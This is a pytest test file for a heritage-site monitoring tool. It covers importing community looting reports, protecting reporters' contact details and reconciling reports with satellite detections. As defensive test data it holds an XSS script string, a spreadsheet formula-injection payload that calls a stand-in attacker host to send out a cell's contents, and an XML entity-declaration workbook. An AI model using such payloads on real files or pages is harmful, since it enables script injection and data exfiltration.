"""Community reports: ingest, reporter protection, reconciliation outcomes — on real detections."""

from __future__ import annotations

import csv
import json
import logging
import re

import pytest

from pipelines.community import import_reports_file, reconcile_to_files
from pipelines.imagery.local_stac import LocalStacProvider
from pipelines.store import Store
from pipelines.weekly import run_period
from reports import import_reports, reconcile
from reports.ingest import Report
from sites import read_sites
from sitewatch.cli import main
from sitewatch.errors import ConfigError, InvalidReport
from conftest import read_page

CONTACT_A = "+976 9911 2233"
CONTACT_B = "herder.bold@example.mn"
KEY = "test-key-not-a-secret"


@pytest.fixture(scope="module")
def world(case_2011, tmp_path_factory):
    """Real detections at three sites of the 2011 case, and a store holding them."""
    tmp = tmp_path_factory.mktemp("reports")
    sites = [s for s in read_sites(case_2011 / "sites.geojson").sites if s.site_id in ("S02-01", "S02-03", "S02-05")]
    store = Store(str(tmp / "sw.db"))
    run_period(store, sites, LocalStacProvider(case_2011 / "catalog"), "2011-03-01", "2011-09-30", tmp / "out")
    dets = store.detections()
    assert len(dets) >= 2
    return tmp, store, dets


def _rows(dets):
    """A realistic report file: near real detections, vague, duplicate, hostile and bad rows."""
    d1 = dets[dets.site_id == "S02-05"].iloc[0]
    from shapely import wkt

    c1 = wkt.loads(d1.geometry_wkt).representative_point()
    first = d1.first_seen
    day = lambda n: str((__import__("pandas").Timestamp(first) + __import__("pandas").Timedelta(days=n)).date())  # noqa: E731
    return [
        {"date": day(10), "latitude": f"{c1.y + 0.0002:.6f}", "longitude": f"{c1.x:.6f}", "site_name": "",
         "comment": "fresh pits and spoil heaps", "contact": CONTACT_A, "accuracy_m": "30"},
        {"date": day(10), "latitude": f"{c1.y + 0.0002:.6f}", "longitude": f"{c1.x:.6f}", "site_name": "",
         "comment": "same again", "contact": CONTACT_A, "accuracy_m": "30"},  # duplicate
        {"date": day(-20), "latitude": f"{c1.y:.6f}", "longitude": f"{c1.x + 0.0003:.6f}", "site_name": "",
         "comment": "<script>alert('x')</script> men with a digger at night", "contact": CONTACT_B, "accuracy_m": "50"},
        {"date": "2011-07-01", "latitude": "", "longitude": "", "site_name": "Site S02-01",
         "comment": "someone camping at the mound", "contact": "", "accuracy_m": ""},  # vague, no detection there
        {"date": "2011-07-02", "latitude": "40.35", "longitude": "-106.80", "site_name": "",
         "comment": "old walls exposed by the river", "contact": CONTACT_B, "accuracy_m": "100"},  # outside sites
        {"date": "2031-01-01", "latitude": "40.29", "longitude": "-106.91", "site_name": "", "comment": "future",
         "contact": CONTACT_A, "accuracy_m": "10"},
        {"date": "2011-07-01", "latitude": "95.0", "longitude": "40.2", "site_name": "", "comment": "bad lat",
         "contact": CONTACT_A, "accuracy_m": "10"},
        {"date": "1950-05-01", "latitude": "40.29", "longitude": "-106.91", "site_name": "", "comment": "too old",
         "contact": "", "accuracy_m": ""},
        {"date": "2011-07-01", "latitude": "", "longitude": "", "site_name": "Site S02-1", "comment": "typo",
         "contact": "", "accuracy_m": ""},
    ]


def _write(path, rows):
    with path.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


@pytest.fixture()
def keyed(monkeypatch):
    monkeypatch.setenv("SITEWATCH_REPORTER_KEY", KEY)


def test_import_validates_and_keeps_every_row(world, keyed, tmp_path):
    _, store, dets = world
    path = _write(tmp_path / "reports.csv", _rows(dets))
    res, new, rejected = import_reports_file(store, path)
    reasons = {row: reason for row, reason, _ in res.rejected}
    assert len(res.accepted) + len(res.rejected) == 9
    assert "duplicate of row 2" in reasons[3]
    assert "future" in reasons[7] and "swapped" in reasons[8] and "before 1970" in reasons[9]
    assert "did you mean 'Site S02-01'" in reasons[10]
    assert rejected.exists() and len(list(csv.DictReader(rejected.open()))) == 5
    # re-import adds nothing
    _, again, _ = import_reports_file(store, path)
    assert again == 0 and len(store.reports()) == new


def test_contact_never_stored_shown_or_logged(world, keyed, tmp_path, caplog, capsys):
    tmp, store, dets = world
    (tmp_path / "inbox").mkdir()
    path = _write(tmp_path / "inbox" / "reports.csv", _rows(dets))
    caplog.set_level(logging.DEBUG)
    assert main(["reports", "import", str(path), "--db", store.url]) == 0
    assert main(["reconcile", "--db", store.url, "--out", str(tmp_path / "rec")]) == 0
    printed = capsys.readouterr()
    haystacks = [printed.out, printed.err, caplog.text]
    written = [p for p in tmp_path.rglob("*") if p.is_file() and p != path]
    assert any(p.name == "reports.rejected.csv" for p in written) and any(p.name == "reconciliation.csv" for p in written)
    haystacks += [p.read_text(errors="ignore") for p in written]
    import sqlite3

    con = sqlite3.connect(store.url.removeprefix("sqlite:///"))
    haystacks.append(json.dumps(con.execute("select * from reports").fetchall()))
    for contact in (CONTACT_A, CONTACT_B, "herder.bold"):
        assert not any(contact in h for h in haystacks), f"{contact!r} leaked"
    # part of the phone number, not the same digits inside a hexadecimal id or a longer number
    assert not any(re.search(r"(?<![0-9a-f])9911(?![0-9a-f])", h) for h in haystacks), "'9911' leaked"
    assert all(r.reporter.startswith("rp-") or r.reporter == "" for r in store.reports())


def test_contacts_without_a_key_are_refused(world, tmp_path, monkeypatch):
    _, store, dets = world
    monkeypatch.delenv("SITEWATCH_REPORTER_KEY", raising=False)
    path = _write(tmp_path / "r.csv", _rows(dets)[:1])
    with pytest.raises(ConfigError, match="SITEWATCH_REPORTER_KEY"):
        import_reports(path, store.sites(), key=None)
    res = import_reports(path, store.sites(), key=None, policy="drop")
    assert res.accepted[0].reporter == ""


def test_each_outcome_and_many_to_many(world, keyed, tmp_path):
    tmp, store, dets = world
    path = _write(tmp_path / "reports.csv", _rows(dets))
    import_reports_file(store, path)
    items, paths = reconcile_to_files(store, tmp_path / "rec")
    outcomes = {i.outcome for i in items}
    assert outcomes == {"corroborated", "report_without_detection", "detection_without_report", "report_outside_sites"}
    d1 = dets[dets.site_id == "S02-05"].iloc[0].detection_id
    corr = [i for i in items if i.outcome == "corroborated" and i.detection_id == d1]
    assert len(corr) == 2  # two reporters, one dig
    assert {i.days_apart for i in corr} == {10, -20}  # one before the first satellite sighting
    assert all(i.distance_m <= 80 and "m from the detection" in i.reason for i in corr)
    assert store.detections().set_index("detection_id").confidence[d1] == corr[0].confidence_after
    vague = next(i for i in items if i.outcome == "report_without_detection")
    assert vague.site_id == "S02-01"
    fc = json.loads(paths["geojson"].read_text())
    assert {f["properties"]["outcome"] for f in fc["features"]} == outcomes
    rows = list(csv.DictReader(paths["csv"].open()))
    assert {"distance_m", "days_apart", "reason", "outcome"} <= set(rows[0])


def test_accuracy_aware_distance():
    from datetime import date

    from shapely.geometry import Point

    from reports.reconcile import ReconDetection
    from sites import Site

    site = Site("S", "S", Point(10.0, 50.0).buffer(0.01), 0.0, "public")
    det = ReconDetection("D", "S", Point(10.0, 50.0).buffer(0.0001), date(2024, 6, 1), date(2024, 6, 20), "low")
    far = Report("r1", date(2024, 6, 5), 50.0018, 10.0, None, "", "", "", "", 30.0, "t", 1)  # ~190 m away
    vague = Report("r2", date(2024, 6, 5), 50.0018, 10.0, None, "", "", "", "", 250.0, "t", 2)
    items = reconcile([far, vague], [det], [site])
    by = {(i.report_id, i.outcome) for i in items}
    assert ("r1", "report_without_detection") in by and ("r2", "corroborated") in by


def test_crash_mid_import_leaves_store_unchanged(world, keyed, tmp_path, monkeypatch):
    _, store, dets = world
    before = len(store.reports())
    path = _write(tmp_path / "new.csv", [dict(_rows(dets)[0], date="2011-08-30", comment="another visit")])
    res = import_reports(path, store.sites(), key=KEY.encode(), policy="restricted")
    import pipelines.store as st

    class Boom(Exception):
        pass

    def explode(*a, **k):
        raise Boom("disk full")

    monkeypatch.setattr(st.reporter_contacts_t, "insert", explode)
    with pytest.raises(Boom):
        store.add_reports(res.accepted, res.contacts)  # reports insert runs first, then the contacts fail
    assert len(store.reports()) == before


def test_real_incident_records_import_against_real_registry(shared, tmp_path):
    """396 real Linked4Resilience damage records (mixed scripts, missing coordinates, repeats)."""
    sites = read_sites(shared / "reports" / "ukraine_world_heritage_and_tentative_sites.csv", strict=False).sites
    path = shared / "reports" / "linked4resilience_cultural_site_damage.csv"
    res = import_reports(path, sites, key=None)
    total = len(list(csv.DictReader(path.open(encoding="utf-8"))))
    assert len(res.accepted) + len(res.rejected) == total  # nothing lost
    reasons = " ".join(r for _, r, _ in res.rejected)
    assert "no date" in reasons or "unreadable date" in reasons
    assert all(r.observed_on.year >= 2022 for r in res.accepted)
    assert any("Ч" in r.site_name or "і" in r.site_name or "Chernihiv" in r.site_name for r in res.accepted)
    store = Store(str(tmp_path / "ua.db"))
    store.upsert_sites(sites)
    store.add_reports(res.accepted)
    items = reconcile(store.reports(), [], store.sites())
    counts = {o: sum(i.outcome == o for i in items) for o in ("report_without_detection", "report_outside_sites")}
    assert counts["report_without_detection"] >= 1 and counts["report_outside_sites"] >= 1
    assert sum(counts.values()) == len(res.accepted)


def test_rejections_name_the_row_the_spreadsheet_shows(case_2011, tmp_path):
    """A blank line and a row of empty cells (as spreadsheets export them) are not reports and are
    not rejected; the rows after them keep the numbers a spreadsheet shows (before, the blank
    line was not counted and the row to fix was named one too high)."""
    sites = read_sites(case_2011 / "sites.geojson").sites
    path = tmp_path / "r.csv"
    path.write_text("date;lat;lon;comment\n2011-07-03;40.2929;-106.9177;pits\n\n;;;\n2011-07-04;95;-106.9;bad\n",
                    encoding="utf-8")
    res = import_reports(path, sites, key=None, policy="drop", today=__import__("datetime").date(2026, 1, 1))
    assert [r.row for r in res.accepted] == [2]
    assert [(n, why) for n, why, _ in res.rejected] == [(5, "coordinates 95.0, -106.9 are outside the globe")]


def test_real_incident_records_as_a_kobo_workbook(shared, tmp_path, as_workbook):
    """The same 396 real records downloaded as an Excel workbook (KoBoToolbox's default): dates
    and coordinates as typed cells, a repeat group on a second sheet.  They give the same reports
    and the same rejections, on the same row numbers, as the CSV; the repeat group is named,
    not read as reports."""
    sites = read_sites(shared / "reports" / "ukraine_world_heritage_and_tentative_sites.csv", strict=False).sites
    path = shared / "reports" / "linked4resilience_cultural_site_damage.csv"
    book = as_workbook(path, tmp_path / "l4r.xlsx",
                       extra={"photos": [["photo", "_index", "_parent_index"], ["p1.jpg", 1, 1], ["p2.jpg", 2, 1]]})
    from openpyxl import load_workbook

    typed = {type(c.value).__name__ for row in load_workbook(book)["reports"].iter_rows(min_row=2) for c in row}
    assert {"datetime", "float"} <= typed  # the workbook holds what Excel makes of the file, not text
    csv_res, book_res = import_reports(path, sites, key=None), import_reports(book, sites, key=None)
    key = [(r.row, r.observed_on, r.lat, r.lon, r.site_id, r.text, r.accuracy_m) for r in csv_res.accepted]
    assert key and key == [(r.row, r.observed_on, r.lat, r.lon, r.site_id, r.text, r.accuracy_m)
                           for r in book_res.accepted]
    assert [(n, why) for n, why, _ in csv_res.rejected] == [(n, why) for n, why, _ in book_res.rejected]
    assert book_res.notes[0] == ("sheet 'photos' (2 rows) is a KoBoToolbox repeat group: its rows belong to the "
                                 "records of sheet 'reports' and were not read")
    # the file's other columns (the source's URL, addresses, links) are named as not read, as from the CSV
    assert book_res.notes[1:] == csv_res.notes and len(csv_res.notes) == 1
    assert csv_res.notes[0].startswith("column(s) not read: 'site', 'altName', 'address', 'wikiUA', 'newsLink'")


def test_a_kobo_export_with_question_labels_as_headers(case_2011, tmp_path, as_workbook):
    """KoBoToolbox can export its questions' labels as headers ("What did you see?") and splits a
    location question into ``_<label>_latitude`` … ``_precision``: such a download is read like one
    with field names; a form with two located questions (one may be the reporter's home) is not
    guessed at."""
    sites = read_sites(case_2011 / "sites.geojson").sites
    head = ["start", "When did you see it?", "Where?", "_Where?_latitude", "_Where?_longitude", "_Where?_altitude",
            "_Where?_precision", "What did you see?", "Your phone number", "_id", "_submission_time"]
    row = ["2011-07-03T09:12:00.000+08:00", "2011-07-02", "40.2929 -106.9177 1500 4.5", "40.2929", "-106.9177",
           "1500", "4.5", "Fresh pits by the mound; call me on +976 9911 2233", "+976 9911 2233", "17",
           "2011-07-03T01:20:00"]
    res = import_reports(as_workbook([head, row], tmp_path / "kobo.xlsx"), sites, key=None, policy="drop",
                         today=__import__("datetime").date(2026, 1, 1))
    (r,) = res.accepted
    assert (r.lat, r.lon, r.accuracy_m) == (40.2929, -106.9177, 4.5)
    assert r.text == "Fresh pits by the mound; call me on [withheld]" and r.reporter == ""
    assert not res.rejected
    two = [*head, "_Home_latitude", "_Home_longitude"]
    res = import_reports(as_workbook([two, [*row[:2], "", "40.2929", "-106.9177", *row[5:], "40.3", "-106.8"]],
                                     tmp_path / "two.xlsx"), sites, key=None, policy="drop",
                         today=__import__("datetime").date(2026, 1, 1))
    assert not res.accepted
    assert "2 located questions (_home, _where) and no latitude/longitude column" in res.rejected[0][1]


def test_workbooks_that_cannot_be_read_say_why(case_2011, tmp_path, as_workbook):
    """An old .xls, a file that is not a workbook (or one locked by a password), a workbook with
    two sheets of data, and one whose XML declares an entity (an XML bomb's tool) are refused
    with what to do; nothing is read from a guess."""
    import zipfile

    sites = read_sites(case_2011 / "sites.geojson").sites
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with pytest.raises(InvalidReport, match=r"a \.xls spreadsheet; save it as an Excel workbook \(\.xlsx\)"):
        import_reports(tmp_path / "old.xls", sites, key=None)
    (tmp_path / "locked.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))  # encrypted: OLE
    with pytest.raises(InvalidReport, match=r"not a readable Excel workbook \(File is not a zip file\).*password"):
        import_reports(tmp_path / "locked.xlsx", sites, key=None)
    rows = [["date", "lat", "lon", "comment"], ["2011-07-03", "40.2929", "-106.9177", "pits"]]
    as_workbook(rows, tmp_path / "two.xlsx", extra={"2010": rows})
    with pytest.raises(InvalidReport, match=r"2 sheets hold data \('reports', '2010'\); sitewatch reads one"):
        import_reports(tmp_path / "two.xlsx", sites, key=None)
    good = as_workbook(rows, tmp_path / "good.xlsx")
    assert [r.observed_on.isoformat() for r in import_reports(good, sites, key=None).accepted] == ["2011-07-03"]
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(tmp_path / "bomb.xlsx", "w") as out:
        for name in src.namelist():
            data = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "pits pits pits">]>'
                        + data.replace(b"<t>pits</t>", b"<t>&a;</t>"))
            out.writestr(name, data)
    with pytest.raises(InvalidReport, match=r"declares entities or external references .*was not read"):
        import_reports(tmp_path / "bomb.xlsx", sites, key=None)


def test_reports_on_the_weekly_map_and_summary(world, keyed, tmp_path, case_2011):
    tmp, store, dets = world
    import_reports_file(store, _write(tmp_path / "reports.csv", _rows(dets)))
    sites = store.sites()
    from pipelines.weekly import write_outputs

    out = write_outputs(store, sites, [], "2011-03-01", "2011-09-30", tmp_path / "o")
    summary = json.loads(out.summary_json.read_text())
    assert summary["reconciliation"]["corroborated"] >= 2
    html = read_page(out.map_html)
    assert "Community reports (reconciled)" in html
    assert "<script>alert('x')" not in html and "&lt;script&gt;alert" in html  # report text is text
    assert CONTACT_A not in html and CONTACT_B not in html


def test_reconciliation_export_generalises_secret_sites(world, keyed, tmp_path):
    from pipelines.community import for_access
    from reports.reconcile import ReconItem

    _, store, dets = world
    sites = store.sites()
    secret = [s.__class__(s.site_id, s.name, s.geometry, s.buffer_m, "secret", s.region) for s in sites]
    item = ReconItem("detection_without_report", None, "D", sites[0].site_id, 40.285749, -106.909515, 12.0, None,
                     "r", "a")
    shown = for_access([item], secret, "restricted")[0]
    assert (shown.lat, shown.lon) != (item.lat, item.lon) and shown.distance_m is None
    assert for_access([item], secret, "secret")[0] == item
    assert for_access([item], sites, "public")[0].lat != item.lat


def test_every_column_naming_the_reporter_is_withheld(case_2011, keyed, tmp_path):
    """A name, a second phone or e-mail, KoBo's _submitted_by: none is stored or written, and the
    reporter's own words lose their phone number, e-mail and name."""
    from reports.ingest import write_rejected
    from reports.privacy import identity_columns

    sites = read_sites(case_2011 / "sites.geojson").sites
    rows = [
        {"date": "2011-07-01", "latitude": "", "longitude": "", "site_id": "S02-01",
         "comment": "pits again, Bold Baatar here, call +976 9911-2233 or bold.b@example.mn",
         "group1/reporter_name": "Bold Baatar", "phone": CONTACT_A, "e-mail": "bold.b@example.mn",
         "_submitted_by": "bbaatar",
         "_attachments": '[{"download_url": "https://kc.example.org/media?media_file=bbaatar/attachments/1/pit.jpg"}]'},
        {"date": "2031-01-01", "latitude": "40.29", "longitude": "-106.91", "site_id": "",
         "comment": "future; Saruul Enkh, saruul@example.mn", "group1/reporter_name": "Saruul Enkh", "phone": "", "e-mail": "", "_submitted_by": "",
         "_attachments": ""},
    ]
    path = _write(tmp_path / "kobo.csv", rows)
    res = import_reports(path, sites, key=KEY.encode())
    [rep] = res.accepted
    assert rep.site_id == "S02-01"  # located by the site id column
    assert rep.reporter.startswith("rp-") and "pits again" in rep.text and "pit.jpg" in rep.photo_ref
    for secret in ("Bold Baatar", "9911", "bold.b@", "bbaatar"):
        assert secret not in rep.text and secret not in json.dumps(rep.__dict__, default=str)
    [(_, reason, kept)] = res.rejected
    assert "future" in reason
    # a name without any contact is the reporter's identity: pseudonymised, never written
    assert kept["group1/reporter_name"].startswith("rp-")
    written = write_rejected(res, tmp_path / "rejected.csv").read_text()
    assert "Saruul" not in written and "Enkh" not in written and "saruul@" not in written
    assert "-106.91" in written and "future; [withheld], [withheld]" in written  # the rest of the row is kept
    assert set(identity_columns(rows[0])) == {"group1/reporter_name", "phone", "e-mail", "_submitted_by"}
    assert not identity_columns(["comment", "site_name", "name", "date", "latitude", "photo"])


def test_an_area_drawn_by_the_reporter_is_located_inside_it(case_2011, tmp_path):
    """A GeoJSON report may carry a polygon (a KoBo geoshape): located at a point inside it, its
    size widens the location accuracy.  A WKT polygon in a CSV is read the same way."""
    from shapely.geometry import Point, box

    sites = read_sites(case_2011 / "sites.geojson").sites
    area = box(-106.915, 40.280, -106.905, 40.285)  # about 850 m x 550 m
    fc = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": area.__geo_interface__, "properties": {"date": "2011-07-01", "comment": "dug here"}},
        {"type": "Feature", "geometry": {"type": "GeometryCollection", "geometries": []},
         "properties": {"date": "2011-07-01", "comment": "empty"}},
    ]}
    path = tmp_path / "areas.geojson"
    path.write_text(json.dumps(fc))
    res = import_reports(path, sites, key=None, policy="drop")
    [rep] = res.accepted
    assert area.contains(Point(rep.lon, rep.lat))
    assert 450 < rep.accuracy_m < 700  # the farthest corner from the point inside
    assert [reason for _, reason, _ in res.rejected] == ["the geometry is empty"]
    csv_path = _write(tmp_path / "areas.csv", [{"date": "2011-07-01", "wkt": area.wkt, "comment": "dug here"}])
    [again] = import_reports(csv_path, sites, key=None, policy="drop").accepted
    assert (again.lat, again.lon, again.accuracy_m) == (rep.lat, rep.lon, rep.accuracy_m)


def test_rejected_rows_file_runs_no_spreadsheet_formula(case_2011, tmp_path):
    from reports.ingest import write_rejected

    sites = read_sites(case_2011 / "sites.geojson").sites
    rows = [{"date": "2031-01-01", "latitude": "40.29", "longitude": "-106.91",
             "comment": '=HYPERLINK("http://evil.example/?"&A1,"click")'}]
    res = import_reports(_write(tmp_path / "r.csv", rows), sites, key=None, policy="drop")
    kept = list(csv.DictReader(write_rejected(res, tmp_path / "rej.csv").open()))
    assert kept[0]["comment"].startswith("'=HYPERLINK")  # shown as text, not run
    assert kept[0]["longitude"] == "-106.91"  # numbers stay numbers


def test_dates_numbers_and_rows_as_people_write_them(case_2011, tmp_path):
    """Field files come from spreadsheets and phones: unambiguous dates in other spellings and
    decimal commas are read; a day-first date, a row the text's comma split, a short row and an
    accuracy with words are rejected with a reason, never read as something else."""
    from reports.ingest import write_rejected

    sites = read_sites(case_2011 / "sites.geojson").sites
    path = tmp_path / "field.csv"
    path.write_text(
        "date;lat;lon;comment;accuracy_m\n"
        "2011/07/03;40,2929;-106,9177;pits;20 m\n"  # row 2: read (it was once read as 2011-07-01)
        "2011.07.04;40,2929;-106,9177;pits again;4,5\n"  # row 3: read
        "03/07/2011;40,2929;-106,9177;day or month?;\n"  # row 4
        "2011-07-05;40,2929;-106,9177;spoil; call +976 9911 2233;\n"  # row 5: the text's ';' split it
        "2011-07-06;40,2929\n"  # row 6
        "2011-07-07;40,2929;-106,9177;pits;about 20\n"  # row 7
        "2011-07-08;4460312;322551;pits;\n",  # row 8: UTM northing and easting
        encoding="utf-8",
    )
    res = import_reports(path, sites, key=None, policy="drop", today=__import__("datetime").date(2026, 1, 1))
    assert [(r.observed_on.isoformat(), r.lat, r.lon, r.accuracy_m) for r in res.accepted] == [
        ("2011-07-03", 40.2929, -106.9177, 20.0), ("2011-07-04", 40.2929, -106.9177, 4.5)]
    reasons = {n: why for n, why, _ in res.rejected}
    assert "could be day-first or month-first" in reasons[4]
    assert "1 cell(s) more than the header" in reasons[5]
    assert "fewer cells than the header (nothing under lon, comment, accuracy_m)" in reasons[6]
    assert reasons[7] == "location accuracy 'about 20' is not a number"
    assert "look like projected metres (UTM?)" in reasons[8]
    kept = {int(r["row"]): r for r in csv.DictReader(write_rejected(res, tmp_path / "rej.csv").open())}
    assert kept[5]["_extra_cells"] == "" and "9911" not in kept[5]["accuracy_m"]  # nothing lost, no phone in clear
    assert "[withheld]" in kept[5]["accuracy_m"]


def test_day_first_dates_are_read_where_the_file_shows_its_order(case_2011, tmp_path, capsys):
    """A CSV saved by a spreadsheet in Mongolian, Russian or European settings writes 25.07.2011.
    Such a date has one reading; one of them tells how the file writes the others (03.07.2011 is
    3 July), and the import says so.  Before, every such date was refused.  A file that shows
    both orders reads only the dates with one reading (before 2026-12-05 it read none, not even
    25.07.2011); the operator can state the order with --dates."""
    from datetime import date

    sites = read_sites(case_2011 / "sites.geojson").sites
    path = tmp_path / "ru.csv"
    lines = ["date;lat;lon;comment", "03.07.2011;40,2929;-106,9177;pits",
             "25.07.2011 14:05 call +976 9911 2233;40,2929;-106,9177;more pits",  # a note reaches the log unscrubbed
             "2011-07-04;40,2929;-106,9177;iso", "05/05/11;40,2929;-106,9177;two-digit year"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = import_reports(path, sites, key=None, policy="drop", today=date(2026, 1, 1))
    assert [r.observed_on.isoformat() for r in res.accepted] == ["2011-07-03", "2011-07-25", "2011-07-04", "2011-05-05"]
    assert res.notes == ["numeric dates such as 03/07/2011 read day-first, as row 3: 25.07.2011 shows "
                         "(pass --dates month-first if that is wrong)"]
    path.write_text("\n".join([*lines, "07/26/2011;40,2929;-106,9177;an American colleague"]) + "\n", encoding="utf-8")
    mixed = import_reports(path, sites, key=None, policy="drop", today=date(2026, 1, 1))
    assert [r.observed_on.isoformat() for r in mixed.accepted] == ["2011-07-25", "2011-07-04", "2011-05-05",
                                                                   "2011-07-26"]  # each with one reading
    assert [n for n, _, _ in mixed.rejected] == [2]  # 03.07.2011: 3 July or 7 March
    assert "both day-first and month-first (day-first in row 3 (25.07.2011); month-first in row 6 (07/26/2011))" \
        in mixed.rejected[0][1] and "9911" not in str(mixed.notes) + str(mixed.rejected)
    path.write_text("\n".join(lines[:2] + lines[3:]) + "\n", encoding="utf-8")  # nothing shows the order
    assert "no date in the file tells which" in import_reports(path, sites, key=None, policy="drop").rejected[0][1]
    stated = import_reports(path, sites, key=None, policy="drop", dates="month-first")
    assert stated.accepted[0].observed_on == date(2011, 3, 7) and not stated.notes
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    wrong = import_reports(path, sites, key=None, policy="drop", dates="month-first")
    assert [(n, why) for n, why, _ in wrong.rejected] == [
        (3, "date '25.07.2011 14:05 call [withheld]': it is day-first, but the file's dates are month-first (--dates)")]
    db = str(tmp_path / "s.db")
    Store(db).upsert_sites(sites)
    assert main(["reports", "import", str(path), "--contact-policy", "drop", "--db", str(db), "--dates", "day-first"]) == 0
    assert "4 accepted (4 new), 0 rejected" in capsys.readouterr().out


def test_dates_with_the_month_in_words_in_the_reporters_language(case_2011, tmp_path):
    """Reports typed by hand name the month: in English, in Russian or Ukrainian, in Arabic, in
    Excel's 25-Jul-11, or in Mongolian, which numbers its months (2011 оны 7 сарын 25).  The
    name says which number is the day, so they are read whatever the file's numeric order; a
    month and year alone is its middle, as 2011-07 is.  Before, all were refused.  What has no
    year ("25 Jul") or is relative ("yesterday") is still refused, never guessed."""
    from datetime import date

    sites = read_sites(case_2011 / "sites.geojson").sites
    path = tmp_path / "named.csv"
    cells = ["25 July 2011", "July 26, 2011", "27-Jul-11", "28 июля 2011 г.", "29 липня 2011 р.",
             "٣٠ يوليو ٢٠١١", "2011 оны 7 сарын 31", "2011 оны наймдугаар сарын 1-ний өдөр",
             "2011 оны 08 дугаар сарын 2", "September 2011", "25 Jul", "yesterday", "31 June 2011",
             "03/07/2011 July"]
    path.write_text("date;lat;lon;comment\n" + "".join(f"{c};40,2929;-106,9177;pits\n" for c in cells),
                    encoding="utf-8")
    res = import_reports(path, sites, key=None, policy="drop", today=date(2026, 1, 1))
    assert [r.observed_on.isoformat() for r in res.accepted] == [
        "2011-07-25", "2011-07-26", "2011-07-27", "2011-07-28", "2011-07-29", "2011-07-30", "2011-07-31",
        "2011-08-01", "2011-08-02", "2011-09-15"]
    assert [n for n, _, _ in res.rejected] == [12, 13, 14, 15]
    assert "no date in the file tells which" in res.rejected[-1][1]  # a numeric date keeps its rules
    assert not res.notes


def _sites_and_form(case, path, content):
    """The case's sites, and a report form written with ``content``."""
    path.write_text(content, encoding="utf-8")
    return read_sites(case / "sites.geojson").sites, path


def test_a_report_form_in_mongolian_is_read_and_its_reporter_protected(case_2011, keyed, tmp_path):
    """A form a Mongolian unit builds names its columns in Mongolian (Огноо, Өргөрөг, Уртраг,
    Тайлбар, Утас) and its dates the Mongolian way.  The report is read, its phone column is the
    reporter's contact (pseudonymised), and the reporter's name column is withheld in the rejected
    rows.  Before, no column was found and every row was rejected with the phone number in clear."""
    from datetime import date

    from reports.ingest import write_rejected

    sites, path = _sites_and_form(case_2011, tmp_path / "mn.csv",
                                  "Огноо,Өргөрөг,Уртраг,Тайлбар,Утас,Мэдээлэгчийн нэр,Нарийвчлал\n"
                                  "2011 оны 7 сарын 3,40.2929,-106.9177,Шинэ нүх ухсан,99112233,Бат,20 м\n"
                                  "2011 оны 7 сарын 4,95,-106.9177,буруу,99112233,Бат,\n")
    res = import_reports(path, sites, key=KEY.encode(), today=date(2026, 1, 1))
    (rep,) = res.accepted
    assert (rep.observed_on, rep.text, rep.accuracy_m) == (date(2011, 7, 3), "Шинэ нүх ухсан", 20.0)
    assert rep.reporter.startswith("rp-")
    written = write_rejected(res, tmp_path / "rejected.csv").read_text(encoding="utf-8")
    assert "99112233" not in written and "Бат" not in written and "буруу" in written
    assert "99112233" not in json.dumps(rep.__dict__, default=str)


def test_rejected_rows_that_cannot_be_kept_stop_the_import(case_2011, tmp_path, capsys):
    """The report file may sit on a read-only share or a stick: the rejected rows are written
    first, and where they cannot be, nothing is imported and the operator is told where else to
    keep them (--rejected-dir).  Before, the reports were stored and then the import crashed,
    and the rejected rows were lost."""
    db = str(tmp_path / "s.db")
    Store(db).upsert_sites(read_sites(case_2011 / "sites.geojson").sites)
    path = tmp_path / "r.csv"
    path.write_text("date,lat,lon,comment\n2011-07-03,40.2929,-106.9177,pits\n2011-07-04,95,-106.9,bad\n",
                    encoding="utf-8")
    (tmp_path / "stick").write_text("a file, not a folder")
    args = ["reports", "import", str(path), "--contact-policy", "drop", "--db", db]
    assert main([*args, "--rejected-dir", str(tmp_path / "stick")]) == 2
    err = capsys.readouterr().err
    assert "cannot keep the 1 rejected row(s) in" in err and "nothing was imported: choose a folder with --rejected-dir" in err
    assert Store(db).reports() == []
    assert main([*args, "--rejected-dir", str(tmp_path / "kept")]) == 0  # a folder not there yet is made
    assert "1 accepted (1 new), 1 rejected" in capsys.readouterr().out and len(Store(db).reports()) == 1
    assert (tmp_path / "kept" / "r.rejected.csv").exists() and not (tmp_path / "r.rejected.csv").exists()


def test_coordinates_in_degrees_minutes_seconds_under_headers_with_units(case_2011, tmp_path):
    """A monitor copies a place from a map that shows degrees and minutes, into columns named
    with their datum: the report is located; a hemisphere that belongs to the other axis is
    rejected as swapped columns.  Before, the header was not found (no coordinates) and the
    value was refused."""
    from datetime import date

    sites = read_sites(case_2011 / "sites.geojson").sites
    path = tmp_path / "dms.csv"
    path.write_text('date,Latitude (WGS84),Longitude (WGS84),comment\n'
                    '2011-07-03,"40°17\'34.4""N","106°55\'03.7""W",pits\n'
                    '2011-07-04,"106°55\'03.7""W","40°17\'34.4""N",swapped\n', encoding="utf-8")
    res = import_reports(path, sites, key=None, policy="drop", today=date(2026, 1, 1))
    assert [(round(r.lat, 5), round(r.lon, 5)) for r in res.accepted] == [(40.29289, -106.91769)]
    ((row, why, _),) = res.rejected
    assert row == 3 and why.startswith("latitude ") and why.endswith("has hemisphere W, which is a longitude's; lat/lon look swapped")


def test_a_site_name_several_sites_share_is_not_guessed(case_2011, tmp_path):
    from shapely.geometry import box

    from sites import Site

    mound = [Site(f"K-{i}", "Khirgisuur", box(106.9 + i / 100, 47.9, 106.905 + i / 100, 47.905)) for i in (1, 2)]
    rows = [{"date": "2011-07-01", "site_name": "khirgisuur", "comment": "dug"},
            {"date": "2011-07-01", "site_name": "K-2", "comment": "dug"}]
    res = import_reports(_write(tmp_path / "r.csv", rows), mound, key=None, policy="drop")
    assert [r.site_id for r in res.accepted] == ["K-2"]
    assert res.rejected[0][1] == "no coordinates, and 2 sites are named 'khirgisuur' (K-1, K-2); give the site_id or the coordinates"


def test_a_json_file_that_holds_no_records_is_refused(case_2011, tmp_path):
    from sitewatch.errors import InvalidReport

